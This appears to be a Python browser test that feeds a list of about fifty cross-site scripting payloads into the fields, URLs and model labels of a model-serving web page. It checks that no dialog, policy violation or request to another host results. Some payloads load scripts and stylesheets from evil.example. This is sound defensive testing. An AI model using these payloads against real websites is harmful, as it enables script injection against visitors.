"""T22: markup where texts are expected, in a real browser: as words, labels, names of models, texts, and in addresses.

Everything that the pages show comes from a model, a folder or a visitor. In each of these places stands what would run
if any of it were taken for markup. Then no dialog may open, no rule of the page's policy may be broken, and nothing may
be asked of any other host.
"""

import contextlib
import os
import shutil
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from urllib.parse import quote

from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request, sync_playwright
from tests.model.made import SMALL, model_folder, vocabulary

from cloze.checkpoint import ModelFolder, TaskLabels, save_folder
from cloze.progress import Progress
from cloze.serve.settings import ServiceSettings
from cloze.text import Tokenizer
from torture.campaign import Outcome
from torture.services import listening, running

_MOST_FAILURES = 10
_PATIENCE = 20_000  # milliseconds
# Each would run "alert" in another place: between tags, in an attribute, in a script, in an address, in a style.
PAYLOADS = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>"),
    *('"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>"),
    *("</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<iframe src=javascript:alert(1)>"),
    *("<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>"),
    *("<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>"),
    *("<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)>"),
    *("<math><mi xlink:href=javascript:alert(1)>", "<base href=//evil.example/>"),
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>"),
    *("<img src=//evil.example/x.png>", "<script src=//evil.example/x.js></script>"),
    "{{constructor.constructor('alert(1)')()}}",
    *("${alert(1)}", "`${alert(1)}`", "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "<!--<script>alert(1)//-->"),
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "%3Cscript%3Ealert(1)%3C/script%3E"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "<svg><script>alert&#40;1)</script>"),
    "<template><script>alert(1)</script>",
]


@dataclass(frozen=True)
class PageSettings:
    """What is written where texts are expected."""

    payloads: Sequence[str] = tuple(PAYLOADS)


@dataclass
class Watch:
    """What a page did that it should not."""

    address: str
    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def over(self, page: Page) -> None:
        """Watch a page."""
        page.on("dialog", self._close)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", self._note)
        page.on("request", self._compare)

    def _close(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _note(self, message: ConsoleMessage) -> None:
        if message.type == "error" and "Content Security Policy" in message.text:
            self.violations.append(message.text)

    def _compare(self, request: Request) -> None:
        if not request.url.startswith(self.address):
            self.outside.append(request.url)

    @property
    def failures(self) -> list[str]:
        """All of it, a line each."""
        named = {"dialog": self.dialogs, "violation": self.violations, "outside": self.outside, "error": self.errors}
        return [f"{name}: {one[:150]}" for name, found in named.items() for one in found]


def chromium() -> str | None:
    """Where the browser is, if there is one."""
    return os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")


@contextlib.contextmanager
def browsing() -> Iterator[Browser]:
    """A real browser without a window."""
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=chromium(), args=["--no-sandbox", "--disable-gpu"])
        try:
            yield browser
        finally:
            browser.close()


def run(settings: PageSettings, progress: Progress) -> Outcome:
    """Write payloads into every field of every tab, with models whose words, labels and names are payloads too."""
    if chromium() is None:
        return Outcome(False, {}, ["no chromium; install it, or say where it is with CHROMIUM"])
    with browsing() as browser:
        return attack(browser, settings.payloads, progress)


def attack(browser: Browser, payloads: Sequence[str], progress: Progress) -> Outcome:
    """The same in a browser that is there."""
    with tempfile.TemporaryDirectory() as folder:
        service_settings = ServiceSettings(hostile_folders(Path(folder), payloads))
        with running(service_settings) as service, listening(service) as address:
            watch = Watch(address)
            tried = visit(browser, address, payloads, watch, progress)
    figures: dict[str, str | int | float] = {
        "payloads": len(payloads),
        "questions": tried,
        "dialogs": len(watch.dialogs),
        "violations": len(watch.violations),
        "outside requests": len(watch.outside),
    }
    return Outcome(not watch.failures and tried > 0, figures, watch.failures[:_MOST_FAILURES])


def hostile_folders(folder: Path, payloads: Sequence[str]) -> dict[str, str]:
    """Models whose labels, tags and pieces are payloads, and one that is called so."""
    count = len(payloads)
    made = {
        "labels": model_folder(["sequence"], labels=count, task=TaskLabels("classify", tuple(payloads))),
        "tags": model_folder(["token"], labels=count, task=TaskLabels("tag", tuple(f"B-{one}" for one in payloads))),
        "spans": model_folder(["span"], task=TaskLabels("answer")),
        "options": model_folder(["choice"], task=TaskLabels("choose")),
        payloads[0]: _hostile_words(payloads),
    }
    folders = {}
    for number, (name, contents) in enumerate(made.items()):
        save_folder(contents, folder / str(number))
        folders[name] = str(folder / str(number))
    return folders


def _hostile_words(payloads: Sequence[str]) -> ModelFolder:
    """A model that fills blanks with payloads."""
    words = [*vocabulary(25), *(payload.replace(" ", "\N{NO-BREAK SPACE}") for payload in payloads)]
    config = replace(SMALL, vocab_size=len(words))
    tokenizer = Tokenizer.from_vocabulary(words, lowercase=False, max_length=32)
    return replace(model_folder(["mlm"], config=config), tokenizer=tokenizer)


def visit(browser: Browser, address: str, payloads: Sequence[str], watch: Watch, progress: Progress) -> int:
    """Ask every tab with every payload; how many questions there were."""
    page = browser.new_page()
    watch.over(page)
    page.goto(f"{address}/docs")
    page.wait_for_selector(".route")
    page.goto(address)
    page.wait_for_selector("#tabs button")
    paths = page.eval_on_selector_all("#tabs button", "tabs => tabs.map(tab => tab.dataset.path)")
    tried = 0
    for done, path in enumerate(paths, start=1):
        for payload in filter(None, ["\n".join(payloads[:20]), "\n".join(payloads[20:])]):
            page.goto(f"{address}/#{path}")
            if not page.is_enabled("form button"):
                break
            ask_all(page, payload)
            tried += 1
        progress.advance("T22: tabs", done, len(paths))
    for payload in payloads:
        page.goto(f"{address}/?{quote(payload)}#{quote(payload)}")
        page.goto(f"{address}/?{payload}#{payload}")
        page.wait_for_selector("#tabs button")
        tried += 1
    page.close()
    return tried


def ask_all(page: Page, text: str) -> None:
    """Write a text into every field, and ask; the answer is looked at as JSON too."""
    for field_ in page.query_selector_all("form textarea, form input:not([type=number])"):
        mask = "[MASK] " if page.inner_text("#title") == "Fill" else ""
        field_.fill("\n".join(f"{mask}{line}" for line in text.split("\n")))
    page.click("form button")
    page.wait_for_selector("#result > *", timeout=_PATIENCE)
    page.wait_for_selector("form button:not([disabled])", timeout=_PATIENCE)
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
